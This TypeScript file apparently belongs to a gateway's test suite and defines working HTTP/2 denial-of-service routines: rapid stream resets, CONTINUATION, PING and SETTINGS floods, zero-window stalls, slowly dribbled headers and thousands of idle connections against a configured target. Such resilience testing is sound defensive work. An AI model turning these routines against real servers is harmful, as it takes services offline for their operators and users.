/** Clients of HTTP/2 that reset, flood, dribble, take nothing, or do nothing (RFC 9113 §10.5). */
import { once } from 'node:events'
import {
  block,
  flags,
  frame,
  get,
  openHttp2,
  frameTypes as types,
  word,
} from '#test/support/http2-frames.ts'
import type { Attack, Target } from './attack.ts'
import { pause } from './sockets.ts'

type Connection = Awaited<ReturnType<typeof openHttp2>>['socket']

/** Frames in the place of those that a connection has had; `first` is the id of the next stream. */
type Frames = (first: number, target: Target) => readonly Uint8Array[]

/** What is done on each of so many connections; those that are closed are opened again. */
interface Misuse {
  readonly name: string
  readonly about: string
  readonly connections: number
  /** Written once. */
  readonly begin?: Frames
  /** Written again and again, when what was written before has left. */
  readonly again?: Frames
  /** Streams that each of {@link again} begins. */
  readonly streams?: number
  /** Between two; milliseconds. */
  readonly every?: number
  /** Settings of the client. */
  readonly settings?: Buffer
}

const whole = flags.endHeaders | flags.endStream
const ids = (first: number, count: number) =>
  Array.from({ length: count }, (_, at) => first + 2 * at)

const misuse = (misused: Misuse): Attack => ({
  name: misused.name,
  about: misused.about,
  isSecure: true,
  async run(target, signal) {
    const { connections, begin, again, streams = 0, every = 20, settings } = misused
    const at = { host: target.host, port: target.port }
    const open = new Map<Connection, number>()
    const add = async () => {
      const raw = await openHttp2(at, { ...(settings && { settings }) }).catch(() => undefined)
      if (raw === undefined) return
      const { socket } = raw
      socket.removeAllListeners('data')
      socket.resume().on('close', () => open.delete(socket))
      open.set(socket, 1)
      if (begin) socket.write(Buffer.concat(begin(1, target)))
    }
    const ended = once(signal, 'abort')
    while (!signal.aborted) {
      const missing = Math.min(connections - open.size, 200)
      // handshakes may take longer than the attack
      await Promise.race([Promise.all(Array.from({ length: missing }, add)), ended])
      for (const [socket, first] of open) {
        if (!again || socket.writableLength > 0) continue
        socket.write(Buffer.concat(again(first, target)))
        open.set(socket, first + 2 * streams)
      }
      await pause(every, signal)
    }
  },
})

const repeat = (count: number, one: Uint8Array): Frames => {
  const all = Array.from({ length: count }, () => one)
  return () => all
}

const asked = (first: number, count: number, path: string) =>
  ids(first, count).map((id) => frame(types.headers, whole, id, get(path)))

const many = block(Array.from({ length: 100 }, (_, at) => [`x-${at}`, 'a'.repeat(100)]))

export const http2Attacks: readonly Attack[] = [
  {
    ...{ name: 'http2-resets', about: '20 connections that ask and reset 100 streams at a time' },
    ...{ connections: 20, streams: 100 },
    again: (first: number, { paths }: Target) =>
      ids(first, 100).flatMap((id) => [
        frame(types.headers, whole, id, get(paths.call)),
        frame(types.reset, 0, id, word(8)),
      ]),
  },
  {
    ...{ name: 'http2-faults', about: '20 connections that make the gateway reset their streams' },
    ...{ connections: 20, streams: 50 },
    again: (first: number, { paths }: Target) =>
      ids(first, 50).flatMap((id) => [
        frame(types.headers, whole, id, get(paths.call)),
        frame(types.windowUpdate, 0, id, word(0)),
      ]),
  },
  {
    ...{ name: 'http2-continuation', about: '20 header blocks that do not end' },
    connections: 20,
    begin: (_: number, { paths }: Target) => [frame(types.headers, 0, 1, get(paths.static))],
    again: repeat(10, frame(types.continuation, 0, 1, many)),
  },
  {
    ...{ name: 'http2-ping', about: '20 connections that flood PING' },
    ...{ connections: 20, again: repeat(5_000, frame(types.ping, 0, 0, Buffer.alloc(8))) },
  },
  {
    ...{ name: 'http2-settings', about: '20 connections that flood SETTINGS' },
    ...{ connections: 20, again: repeat(5_000, frame(types.settings, 0, 0, Buffer.alloc(0))) },
  },
  {
    ...{ name: 'http2-windows', about: '20 connections that ask 8 MB 100 times and take none' },
    ...{ connections: 20, settings: Buffer.concat([Buffer.from([0, 4]), word(0)]) },
    begin: (_: number, { paths }: Target) => asked(1, 100, paths.large),
  },
  {
    ...{ name: 'http2-dribbled', about: '2,000 header blocks, a field a second' },
    ...{ connections: 2_000, every: 1000 },
    begin: (_: number, { paths }: Target) => [frame(types.headers, 0, 1, get(paths.static))],
    again: repeat(1, frame(types.continuation, 0, 1, block([['x-a', 'a']]))),
  },
  { name: 'http2-idle', about: '10,000 connections that ask nothing', connections: 10_000 },
  {
    ...{ name: 'http2-asked', about: '10,000 connections that ask once, and then nothing' },
    connections: 10_000,
    begin: (_: number, { paths }: Target) => [frame(types.headers, whole, 1, get(paths.static))],
  },
].map(misuse)
